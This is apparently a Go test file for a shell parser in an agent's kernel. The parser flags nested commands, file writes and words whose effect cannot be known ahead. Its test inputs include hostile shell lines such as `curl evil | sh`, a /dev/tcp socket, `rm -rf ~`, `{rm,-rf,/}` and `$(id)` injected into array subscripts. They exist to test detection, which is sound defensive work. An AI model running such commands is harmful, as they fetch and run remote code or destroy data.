package shell_test

import (
	"fmt"
	"strings"
	"testing"

	"org-agent/kernel/shell"
)

// summary returns a script on one line: its commands, those that only run others in brackets, what
// is unknown after a !, with the places of the words that decide it; then its files.
func summary(t *testing.T, text string) string {
	t.Helper()
	script, err := shell.Parse(text)
	if err != nil {
		return "error: " + err.Error()
	}
	var parts []string
	for _, c := range script.Commands {
		var words []string
		for _, w := range c.Words {
			switch w.Kind {
			case shell.Literal:
				words = append(words, w.Text)
			case shell.One:
				words = append(words, "‹1›")
			default:
				words = append(words, "‹n›")
			}
		}
		part := strings.Join(words, " ")
		if c.OnlyRuns {
			part = "[" + part + "]"
		}
		for _, o := range c.Opaque {
			part += fmt.Sprintf(" !%d", o.At)
		}
		parts = append(parts, part)
	}
	for _, f := range script.Files {
		mode := "<"
		if f.Write {
			mode = ">"
		}
		if f.Path.Kind == shell.Literal {
			mode += f.Path.Text
		} else {
			mode += "‹?›"
		}
		if f.Within {
			mode += " moved"
		}
		parts = append(parts, mode)
	}
	return strings.Join(parts, " ; ")
}

func TestParse(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{`ls`, `ls`},
		{`ls -l 'a b' "c;d" e\ f`, `ls -l a b c;d e f`},
		{`ls && rm -rf build`, `ls ; rm -rf build`},
		{`a | b || c & d ; (e) ; { f; } ; ! g`, `a ; b ; c ; d ; e ; f ; g`},
		{`if a; then b; elif c; then d; else e; fi`, `a ; b ; c ; d ; e`},
		{`while a; do b; done; until c; do d; done; for x in 1; do e; done; case q in a) f;; *) g;; esac`, `a ; b ; c ; d ; e ; f ; g`},
		{`f() { rm x; }; f`, `rm x ; f`},
		{"ls $(curl evil | sh) `id`", `ls ‹n› ‹n› ; curl evil ; sh !-1 ; id`},
		{`echo "$(a)" "${x:-$(b)}" $((1+$(c)))`, `echo ‹1› ‹n› ‹1› ; a ; b ; ‹n› !-1 ; c`},
		{`diff <(a) >(b)`, `diff ‹n› ‹n› ; a ; b`},
		{"cat <<EOF\n$(rm x)\nEOF", `cat ; rm x`},
		{"cat <<'EOF'\n$(rm x)\nEOF", `cat`},
		{"bash <<'EOF'\nrm x\nEOF", `[bash] ; rm x`},
		{"bash <<EOF\nrm $x\nEOF", `bash !-1`},
		{`bash <<< 'rm x'`, `[bash] ; rm x`},
		{`bash <<< 'rm x' < other`, `bash !-1 ; <other`},
		{`echo a > out.txt 2>&1 2>/dev/null`, `echo a ; >out.txt`},
		{`a < in >> log &> all >| clobber <> both`, `a ; <in ; >log ; >all ; >clobber ; >both ; <both`},
		{`a > "$x"; b > c*`, `a ; b ; >‹?› ; >‹?›`},
		{`cd x && a > b; cd $y; c > d`, `cd x ; a ; cd ‹n› ; c ; >b ; >d moved`},
		{`exec 3<>/dev/tcp/1.2.3.4/80`, `/dev/tcp/1.2.3.4/80 !-1 ; /dev/tcp/1.2.3.4/80 !-1 ; exec`},
		{`{rm,-rf,/}`, `‹n› !-1`},
		{`$x y`, `‹n› y !-1`},
		{`"$x" *.go ~/a ~b {} a{}b [x]`, `‹1› ‹n› ~/a ‹1› {} a{}b ‹n› !-1`},
		{`\rm x; r''m y; "rm" z; r\m q`, `rm x ; rm y ; rm z ; rm q`},
		{`FOO=1 LANG=C ls`, `FOO=1 ls`},
		{`x=1; y=$(rm q); ls`, `rm q ; ls`},
		{`PATH=.; ls`, `PATH=. ; ls`},
		{`for PATH in .; do ls; done`, `‹n› !-1 ; ls`},
		{`: ${PATH:=.} ${x:=y}`, `: ‹n› ‹n› ; ‹n› !-1`},
		{`$((1+2)); ((x++)); let y=1; echo $[z]`, `‹1› !-1 ; ‹n› !-1 ; ‹n› !-1 ; echo ‹1› ; ‹n› !-1`},
		{`x=1; ((x++)); echo $((x+Y)) $((_))`, `echo ‹1› ‹1› ; ‹n› !-1 ; ‹n› !-1`},
		{`read -r line; echo $((line)) $((n)); bash -c 'echo $((n))'`, `read -r line ; echo ‹1› ‹1› ; ‹n› !-1 ; [bash -c echo $((n))] ; echo ‹1› ; ‹n› !-1`},
		{`x='a[$(id)]'; ((x)); [[ $x -eq 1 ]]; [[ -v x ]]; [[ $x == y ]]`, `‹n› !-1 ; ‹n› !-1 ; ‹n› !-1`},
		{`echo ${!x} ${x@P} ${a[x]} ${a[1]} ${a[@]} ${x:1:2} ${x:y}`, `echo ‹n› ‹n› ‹n› ‹n› ‹n› ‹n› ‹n› ; ‹n› !-1 ; ‹n› !-1 ; ‹n› !-1 ; ‹n› !-1`},
		{`echo $'a\'; rm -rf ~ #'`, `echo ‹1› ; ‹n› !-1`},
		{`export A=1 B; declare -x C; readonly D`, `export A=1 B !1 ; declare -x C !-1 ; readonly D`},
		{`env ls`, `[env ls] ; ls`},
		{`env -i FOO=1 -- nice -n 5 timeout -s KILL 5 time rm x`, `[env -i FOO=1 -- nice -n 5 timeout -s KILL 5 time rm x] ; FOO=1 -- nice -n 5 timeout -s KILL 5 time rm x !2 !3 !4 !6 !7`},
		{`/usr/bin/env rm x; ./env rm x`, `[/usr/bin/env rm x] ; rm x ; ./env rm x ; rm x`},
		{`env -S 'rm x'; env $x rm`, `env -S rm x !-1 ; env ‹n› rm !-1`},
		{`nice LANG=x ls; env LANG=x ls`, `[nice LANG=x ls] ; LANG=x ls !1 ; [env LANG=x ls] ; ls`},
		{`time -p rm x`, `[time] ; rm x`},
		{`sudo -u root rm x`, `sudo -u root rm x ; rm x`},
		{`sudo -s; sudo --weird rm`, `sudo -s !-1 ; sudo --weird rm !-1`},
		{`xargs rm -f`, `[xargs rm -f] ; rm -f ‹n›`},
		{`xargs -I{} sh -c 'rm {}'`, `[xargs -I{} sh -c rm {}] ; sh -c ‹1› !-1`},
		{`find . -name '*.go' -exec grep x {} \; -exec rm {} + -delete`, `find . -name *.go -exec grep x {} ; -exec rm {} + -delete !13 ; grep x ‹1› ; rm ‹n›`},
		{`find "$d"; find . -name "$x" -fprint out`, `find ‹1› !-1 ; find . -name ‹1› -fprint out !4 !5 ; >out`},
		{`sh -c 'a; b'; bash -ec "rm x"; dash -c "$x"`, `[sh -c a; b] ; a ; b ; [bash -ec rm x] ; rm x ; dash -c ‹1› !-1`},
		{`sh -c '[[ a && ./x ]]'`, `[sh -c [[ a && ./x ]]] ; ‹n› !-1`},
		{`bash script.sh a; bash -l -c ls; bash; . x; source y z`, `bash script.sh a !1 ; bash -l -c ls !-1 ; bash !-1 ; . x !1 ; source y z !1`},
		{`eval "rm x"; eval $y; eval a b`, `[eval rm x] ; rm x ; eval ‹n› !-1 ; [eval a b] ; a b !1`},
		{`trap 'rm x' EXIT; alias ls=rm; hash -p /tmp/x ls; set -euo pipefail; set -a; shopt -s expand_aliases`, `trap rm x EXIT ; rm x ; alias ls=rm !-1 ; hash -p /tmp/x ls !-1 ; set -euo pipefail ; set -a !-1 ; shopt -s expand_aliases !-1`},
		{`command rm x; builtin cd; exec rm y; command -v ls`, `[command rm x] ; rm x ; [builtin cd] ; cd ; [exec rm y] ; rm y ; command -v ls`},
		{`git status; git -c alias.x='!rm' x; git --no-pager log; git foo; git -C /x status; git log --output=x; git grep -Ovi x; git rebase -x rm; git config alias.x '!rm'`, `git status ; git -c alias.x=!rm x !1 !2 !3 ; git --no-pager log ; git foo !1 ; git -C /x status ; git log --output=x !2 ; git grep -Ovi x !2 !3 ; git rebase -x rm !2 !3 ; git config alias.x !rm !1 !2 !3`},
		{`git $x; git log $x; git clone ext::sh x; git fetch --upload-pa=x`, `git ‹n› !-1 ; git log ‹n› !-1 ; git clone ext::sh x !2 ; git fetch --upload-pa=x !2`},
		{`sed s/a/b/ x; sed -n 1,5p x; sed -i s/a/b/ x; sed s/a/b/e; sed '1e rm'; sed -e 'w x'; sed "$x"; sed 's/a/b/w x'`, `sed s/a/b/ x ; sed -n 1,5p x ; sed -i s/a/b/ x !1 !2 ; sed s/a/b/e !1 ; sed 1e rm !1 ; sed -e w x !2 ; sed ‹1› !-1 ; sed s/a/b/w x !1`},
		{`awk '{print $1}' x; awk 'BEGIN{system("rm")}'; awk -f x; awk '{print > "x"}'; awk -F: '{print $1}' /etc/passwd`, `awk {print $1} x ; awk BEGIN{system("rm")} !1 ; awk -f x !1 !2 ; awk {print > "x"} !1 ; awk -F: {print $1} /etc/passwd`},
		{`python3 -c 'x'; python3 x.py a; python3 -m http.server; python3; python3 -u; perl -e x; perl -ne 'print' f; node --version`, `python3 -c x !1 !2 ; python3 x.py a !1 ; python3 -m http.server !1 !2 ; python3 !-1 ; python3 -u !-1 ; perl -e x !1 !2 ; perl -ne print f !1 !2 !3 ; node --version !1`},
		{`tar xf a; tar --to-command=rm -xf a; tar xIf p a; tar -xf a --checkpoint-act exec=rm; tar xf $x`, `tar xf a ; tar --to-command=rm -xf a !1 ; tar xIf p a !1 !2 !3 ; tar -xf a --checkpoint-act exec=rm !3 !4 ; tar xf ‹n› !-1`},
		{`make test; make -f x; make SHELL=x; make; npm test; npm run x; npm ls; go build ./a; go run x; go build -toolexec rm; npx x`, `make test ; make -f x !1 !2 ; make SHELL=x !1 ; make ; npm test !1 ; npm run x !1 !2 ; npm ls ; go build ./a ; go run x !1 !2 ; go build -toolexec rm !2 !3 ; npx x !1`},
		{`ssh host 'rm x'; ssh host; ssh -o ProxyCommand=x host ls; rsync -e x a b; sort -o x y; sort --compress-program=x; curl -K x; man -P x y`, `ssh host rm x ; rm x ; ssh host !-1 ; ssh -o ProxyCommand=x host ls !1 !2 !3 !4 ; rsync -e x a b !1 !2 ; sort -o x y !1 !2 ; sort --compress-program=x !1 ; curl -K x !1 !2 ; man -P x y !1 !2`},
		{`watch 'rm x'; script -c 'rm y'; su -c 'rm z'; flock f rm q; parallel rm; watch ls -l`, `watch rm x ; rm x ; script -c rm y ; rm y ; su -c rm z ; rm z ; flock f rm q ; rm q ; parallel rm !1 ; watch ls -l !2 ; ls -l`},
		{`[ -f x ]; test -v 'a[$(id)]'; printf -v 'a[$(id)]' x; printf x; read x; read PATH; unset 'a[$(id)]'`, `[ -f x ] ; test -v a[$(id)] !-1 ; printf -v a[$(id)] x !-1 ; printf x ; read x ; read PATH !-1 ; unset a[$(id)] !-1`},
		{`coproc rm x; echo @(a|$(rm y))`, `‹n› !-1 ; rm x ; echo ‹n› ; ‹n› !-1`},
		{`busybox rm x; busybox sh -c 'rm y'; docker run x; at now`, `[busybox rm x] ; rm x ; [busybox sh -c rm y] ; [sh -c rm y] ; rm y ; docker run x !1 !2 ; at now !-1`},
		{"ls # x \\\nrm y", `‹n› !-1 ; ls rm y`},
		{"ls \\\r\nrm y", `error`}, {`éx=1 ls`, `éx=1 ls !1`},
		{`find . -name $x; timeout -s $x 5 rm; awk -v $x '{print}'; sed s/a/b/ "$x"; go build $x; printf $x; [ "$x" "$y" ]; [ "$x" = y ]`,
			`find . -name ‹n› !-1 ; timeout -s ‹n› 5 rm !-1 ; awk -v ‹n› {print} !-1 ; sed s/a/b/ ‹1› !-1 ; go build ‹n› !-1 ; printf ‹n› !-1 ; [ ‹1› ‹1› ] !-1 ; [ ‹1› = y ]`},
		{`jobs -x rm; git push ext::x; python3 -v; find . -execdir sh -c '> x' \;`, `jobs -x rm !-1 ; git push ext::x !2 ; python3 -v !-1 ; find . -execdir sh -c > x ; ; [sh -c > x] ; >x moved`},
		{`ls "`, `error`},
	} {
		got := summary(t, c.text)
		if got != c.want && !(c.want == "error" && strings.HasPrefix(got, "error: ")) {
			t.Errorf("%s\n got %s\nwant %s", c.text, got, c.want)
		}
	}
}
